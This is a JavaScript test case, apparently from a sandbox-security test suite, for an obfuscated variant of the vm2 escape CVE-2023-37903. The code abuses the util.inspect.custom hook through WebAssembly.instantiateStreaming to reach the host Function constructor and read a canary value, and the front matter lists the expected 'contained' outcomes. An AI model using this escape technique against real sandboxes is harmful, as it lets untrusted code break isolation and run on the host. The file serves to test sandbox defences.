/*---
id: re-inspect-custom-05-instantiate-streaming
description: "CVE-2023-37903 variant: instantiateStreaming with a null-prototype
  bait whose hook key is built from parts; the hook tries the host inspect and
  the options' stylize as routes to the host Function."
kind: malicious
category: realm-escape
technique: RE-inspect-custom
variant: obfuscated
references:
  - CVE-2023-37903
  - GHSA-g644-9gfx-q4q4
proven:
  - vm2@3.9.19
expect:
  ultra-secure:
    outcome: contained
    value: held
  high-security:
    outcome: contained
    value: held
  tenant-isolated:
    outcome: contained
    value: held
flags:
  - async
---*/
// CVE-2023-37903 variant: instantiateStreaming formats the same argument; the hook key is built from parts
// and the host Function is reached through the options object's constructor chain instead.
let verdict = 'held';
const hook = Symbol.for(['nodejs', 'util', 'inspect', 'custom'].join('.'));
const bait = Object.create(null);
bait[hook] = function (depth, options, inspect) {
  for (const reach of [inspect, options && options.stylize]) {
    try {
      const token = reach.constructor('return globalThis.__SANDPROOF_CANARY__')();
      if (typeof token === 'string') { verdict = 'ESCAPED:' + token; return ''; }
    } catch (e) {}
  }
  return '';
};
const wasm = typeof WebAssembly === 'object' ? WebAssembly : null;
if (wasm && typeof wasm.instantiateStreaming === 'function') {
  await wasm.instantiateStreaming(bait).catch(() => {});
}
for (let i = 0; i < 20; i++) await null;
return verdict;
